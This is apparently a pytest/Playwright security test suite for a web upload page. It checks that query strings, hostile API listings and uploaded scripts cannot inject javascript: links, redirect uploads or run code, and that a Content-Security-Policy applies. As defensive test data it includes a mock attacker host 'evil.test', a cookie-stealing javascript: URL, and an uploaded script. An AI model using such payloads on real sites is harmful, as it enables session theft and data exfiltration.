"""The page cannot be turned against its user: crafted query strings, hostile API answers,
uploads that are scripts, and the Content-Security-Policy that backs all of it.

The query-string tests run with the page's CSP bypassed, so they prove that app.js itself
refuses the attack; `test_the_page_runs_under_its_policy` proves the policy is there and that
the page lives with it.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Page, expect

from tests.browser.test_webclient import expect_done, open_client
from tests.support.browser import PageLog, random_file
from tests.support.live import LiveServer

pytestmark = pytest.mark.browser

EVIL = "http://evil.test"
TUS = {"Tus-Resumable": "1.0.0"}


class EvilOrigin:
    """Playwright routes standing in for an attacker's server: a file list whose links are
    `javascript:` URLs, and a tus endpoint that would accept uploads. Records every request."""

    def __init__(self, context: Any):
        self.seen: list[str] = []
        context.route(f"{EVIL}/**", self._handle)

    def _handle(self, route: Any) -> None:
        self.seen.append(f"{route.request.method} {route.request.url}")
        cors = {
            "Access-Control-Allow-Origin": "*",
            "Access-Control-Allow-Headers": "*",
            "Access-Control-Allow-Methods": "*",
            "Access-Control-Expose-Headers": "Location, Upload-Offset, Tus-Resumable",
        }
        if "/api/" in route.request.url:
            listing = {
                "uploads": [
                    {
                        "id": "0" * 32,
                        "filename": "click-me.txt",
                        "size": 1,
                        "offset": 1,
                        "complete": True,
                        "created": "2026-01-01T00:00:00Z",
                        "download_url": "javascript:window.stolen=document.cookie//",
                    }
                ],
                "total": 1,
            }
            route.fulfill(status=200, headers=cors, json=listing)
        else:
            route.fulfill(status=201, headers={**cors, "Location": f"{EVIL}/files/x"})


@pytest.fixture
def csp_bypassed(browser: Any) -> Iterator[Any]:
    context = browser.new_context(bypass_csp=True)
    try:
        yield context
    finally:
        context.close()


def test_query_string_cannot_feed_the_page_javascript_links(
    server: LiveServer, csp_bypassed: Any
) -> None:
    evil = EvilOrigin(csp_bypassed)
    page = csp_bypassed.new_page()
    open_client(page, server.url, api=f"{EVIL}/api/uploads")

    expect(page.locator("#errors")).to_contain_text("Ignored “api”")
    expect(page.get_by_test_id("file-list-status")).to_have_text("No files uploaded yet.")
    assert page.locator("a[href^='javascript:' i]").count() == 0
    assert evil.seen == []


def test_a_hostile_download_url_never_becomes_a_link(server: LiveServer, page: Page) -> None:
    """Even the page's own API is not trusted with href: only http(s) URLs become links."""

    def hostile_listing(route: Any) -> None:
        response = route.fetch()
        listing = response.json()
        listing["uploads"] = [
            {
                "id": "1" * 32,
                "filename": "x.txt",
                "size": 1,
                "offset": 1,
                "complete": True,
                "download_url": "javascript:alert(1)",
            }
        ]
        listing["total"] = 1
        route.fulfill(response=response, body=json.dumps(listing))

    page.route("**/api/uploads?*", hostile_listing)
    open_client(page, server.url)
    expect(page.get_by_test_id("file-row")).to_have_count(1)
    assert page.locator("a[href^='javascript:' i]").count() == 0
    assert page.get_by_test_id("download").get_attribute("href") is None


def test_query_string_cannot_send_uploads_elsewhere(
    server: LiveServer, csp_bypassed: Any, tmp_path: Path
) -> None:
    evil = EvilOrigin(csp_bypassed)
    page = csp_bypassed.new_page()
    source = random_file(tmp_path / "secret.bin", 2048)
    open_client(page, server.url, endpoint=f"{EVIL}/files/", retryDelays="0")

    expect(page.locator("#errors")).to_contain_text("Ignored “endpoint”")
    page.get_by_test_id("file-input").set_input_files(source)
    expect_done(page, source.name)
    assert evil.seen == []
    listed = requests.get(f"{server.url}/api/uploads", timeout=10).json()["uploads"]
    assert [u["filename"] for u in listed] == [source.name]


def test_the_page_runs_under_its_policy(server: LiveServer, page: Page, tmp_path: Path) -> None:
    log = PageLog()
    log.attach(page)
    source = random_file(tmp_path / "policy.bin", 4096)
    response = page.goto(server.url)
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy

    open_client(page, server.url)
    page.get_by_test_id("file-input").set_input_files(source)
    expect_done(page, source.name)
    # A crafted address is refused by the policy even if the page's own check were gone.
    blocked = page.evaluate(
        f"""() => fetch({json.dumps(EVIL + "/api/uploads")}).then(() => 'sent', () => 'blocked')"""
    )
    assert blocked == "blocked"
    violations = [line for line in log.lines if "Content Security Policy" in line]
    assert violations == [f for f in violations if "evil.test" in f], violations


def upload_bytes(server: LiveServer, data: bytes, filename: str, filetype: str) -> str:
    meta = ",".join(
        f"{key} {base64.b64encode(value.encode()).decode()}"
        for key, value in {"filename": filename, "filetype": filetype}.items()
    )
    created = requests.post(
        f"{server.url}/files/",
        headers={**TUS, "Upload-Length": str(len(data)), "Upload-Metadata": meta},
        timeout=10,
    )
    assert created.status_code == 201, created.text
    url = created.headers["Location"]
    patched = requests.patch(
        url,
        data=data,
        headers={
            **TUS,
            "Upload-Offset": "0",
            "Content-Type": "application/offset+octet-stream",
        },
        timeout=10,
    )
    assert patched.status_code == 204, patched.text
    return url


def test_an_uploaded_script_does_not_run_from_our_origin(server: LiveServer, page: Page) -> None:
    url = upload_bytes(server, b"window.pwned = 'yes';", "evil.js", "text/javascript")
    page.set_content(f'<script src="{url}"></script><p id="done">loaded</p>')
    page.wait_for_load_state("load")
    assert page.evaluate("() => window.pwned ?? null") is None
    response = requests.get(url, timeout=10)
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert quote("evil.js") in response.headers["Content-Disposition"]
